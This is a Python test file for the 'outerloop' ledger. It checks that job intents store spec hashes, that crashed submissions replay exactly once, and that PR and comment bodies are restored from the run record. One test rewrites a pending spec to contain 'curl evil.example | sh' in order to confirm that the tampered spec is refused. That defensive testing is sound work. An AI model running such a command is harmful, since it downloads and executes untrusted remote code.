"""An intent records its effect without the parts the ledger holds elsewhere or that
weigh most (issue 27), and a crash between the intent and its done still replays the
effect exactly once: a job from the spec written ahead of its intent (checked against
the intent's hash), a pull request's body and a run's report comment from the run's
record; what cannot be found again is refused, never guessed."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from outerloop.compute.base import JobSpec
from outerloop.config import Settings
from outerloop.effects import spec_hash
from outerloop.errors import OuterloopError
from outerloop.kernel import recorded
from outerloop.kernel.actions import OpenPR, PostComment, SubmitJob, encode_effect, intent_for
from outerloop.kernel.executor import CRASH_EXIT_CODE, CRASH_FILE
from outerloop.ledger import events as ev
from outerloop.ledger.book import apply_event, tick_file
from outerloop.ledger.state import PendingIntent, RunRecord, State
from outerloop.vocabulary import JobPurpose
from tests.support import TARGET, make_home, state_of, tick_process

EFFECT_SCRIPT = """
import sys
from outerloop.kernel.actions import decode_effect
from outerloop.config import load_settings
from outerloop.kernel.executor import Effects, Executor
from outerloop.ledger.store import LedgerWriter, tick_file

settings = load_settings(sys.argv[1])
writer = LedgerWriter(tick_file(settings.home, sys.argv[2]))
Executor(Effects(settings), lambda _t: writer).run(decode_effect(sys.argv[3].encode()))
"""
NAME = "ol-probe-spec"
COMMAND = "echo the-whole-command-is-not-in-the-ledger && sleep 0.2"


def _submit(settings: Settings, crash: str | None = None) -> tuple[SubmitJob, int]:
    spec = JobSpec(name=NAME, command=COMMAND, workdir=str(settings.home),
                   log_dir=str(settings.home / "probe"), time_minutes=1,
                   env={"PROBE": "value-kept-out-of-the-ledger"})
    action = SubmitJob(target=TARGET, purpose=JobPurpose("probe"), spec=spec)
    if crash:
        (settings.home / CRASH_FILE).write_text(f"{crash}:{action.key}\n")
    done = subprocess.run([sys.executable, "-c", EFFECT_SCRIPT, str(settings.home), TARGET,
                           encode_effect(action).decode()], capture_output=True, text=True,
                          timeout=60, check=False)
    return action, done.returncode


def _jobs_named(settings: Settings, name: str) -> list[str]:
    folder = settings.home / "jobs" / "names" / name
    return sorted(p.name for p in folder.iterdir() if p.name != "latest") \
        if folder.is_dir() else []


def _intent_line(settings: Settings) -> dict[str, Any]:
    (line,) = [json.loads(x) for x in tick_file(settings.home, TARGET).read_text().splitlines()
               if '"kind":"intent"' in x]
    return dict(line)


def test_a_jobs_intent_holds_its_specs_hash_and_the_spec_goes_once_it_is_done(
        tmp_path: Path) -> None:
    settings = make_home(tmp_path)
    action, code = _submit(settings)
    assert code == 0 and len(_jobs_named(settings, NAME)) == 1
    line = _intent_line(settings)
    text = json.dumps(line)
    assert "the-whole-command" not in text and "value-kept-out" not in text
    assert line["action"]["spec_hash"] == spec_hash(action.spec)
    assert "key" not in line and "run" not in line  # the action's own
    assert not recorded.spec_file(settings.home, action).exists()
    assert state_of(settings).jobs[_jobs_named(settings, NAME)[0]].name == NAME


def test_a_job_is_submitted_once_from_its_spec_written_ahead_when_the_tick_crashed(
        tmp_path: Path) -> None:
    settings = make_home(tmp_path)
    action, code = _submit(settings, crash="after-intent")
    assert code == CRASH_EXIT_CODE and _jobs_named(settings, NAME) == []
    assert recorded.spec_file(settings.home, action).exists()
    tick_process(settings, check=True)
    (job_id,) = _jobs_named(settings, NAME)
    written = json.loads((settings.home / "jobs" / job_id / "spec.json").read_text())
    assert written["command"] == COMMAND and written["env"]["PROBE"].startswith("value")
    state = state_of(settings)
    assert state.intents == {} and job_id in state.jobs
    assert not recorded.spec_file(settings.home, action).exists()


def test_a_job_the_ledger_lost_is_found_by_its_name_not_submitted_again(
        tmp_path: Path) -> None:
    """A restore (or any loss of lines) takes the job's intent and done away while the
    job exists: submitting it again is found by its name and recorded, not repeated."""
    settings = make_home(tmp_path)
    _, code = _submit(settings)
    (job_id,) = _jobs_named(settings, NAME)
    tick_file(settings.home, TARGET).unlink()  # the lines are lost
    _, code = _submit(settings)
    assert code == 0 and _jobs_named(settings, NAME) == [job_id]
    (done,) = [json.loads(x) for x in tick_file(settings.home, TARGET).read_text()
               .splitlines() if '"kind":"done"' in x]
    assert done["result"]["job_id"] == job_id and done["reconciled"] is True


def test_a_job_whose_spec_written_ahead_changed_is_refused_not_submitted(
        tmp_path: Path) -> None:
    settings = make_home(tmp_path)
    action, code = _submit(settings, crash="after-intent")
    assert code == CRASH_EXIT_CODE
    path = recorded.spec_file(settings.home, action)
    path.write_text(path.read_text().replace("sleep 0.2", "curl evil.example | sh"))
    tick_process(settings, check=True)
    assert _jobs_named(settings, NAME) == []
    state = state_of(settings)
    assert state.intents == {}
    assert {k: f.count for k, f in state.failures.items()} == {action.key: 1}
    assert "is not the spec its intent names" in tick_file(settings.home, TARGET).read_text()


RUN = "tour-1-agent-01"
FILE = "o__n/tick.jsonl"


def _run_state(body: str, report: str) -> State:
    state = State()
    state.runs[RUN] = RunRecord(run_id=RUN, target=TARGET, benchmark="tour", agent="agent-01",
                                issue=1, issue_title="t", hypothesis="h", queued_at="x",
                                report=report)
    state.runs[RUN].publish = ev.PublishReady(seal_sha="c" * 40, branch="b", title="t",
                                              body=body)
    return state


def _pending(action: OpenPR | PostComment, state: State) -> PendingIntent:
    intent = intent_for(action)
    apply_event(state, FILE, intent)
    (pending,) = state.intents.values()
    return pending


def test_a_pr_and_a_report_comment_replay_with_their_bodies_from_the_runs_record() -> None:
    body, report = "the PR body " * 40, "the run's report " * 40
    pr = OpenPR(target=TARGET, run=RUN, head="b", base="main", sha="c" * 40, source="/s",
                title="t", body=body)
    post = PostComment(target=TARGET, run=RUN, number=1, body=report, marker_kind="report",
                       marker_key=RUN)
    for action in (pr, post):
        state = _run_state(body, report)
        pending = _pending(action, state)
        assert isinstance(pending.action, OpenPR | PostComment)
        assert pending.action.body == "" and pending.action.body_hash  # as recorded
        replayed = recorded.with_texts(pending, state).action
        assert replayed == action  # the body back, checked against its hash


def test_a_post_whose_body_the_record_no_longer_holds_is_refused_on_replay() -> None:
    post = PostComment(target=TARGET, run=RUN, number=1, body="the report as it was " * 9,
                       marker_kind="report", marker_key=RUN)
    state = _run_state("a body", "a report written since")
    pending = recorded.with_texts(_pending(post, state), state)
    assert isinstance(pending.action, PostComment) and pending.action.body == ""
    with pytest.raises(OuterloopError, match="no longer holds that text"):
        recorded.require_body(pending.action)
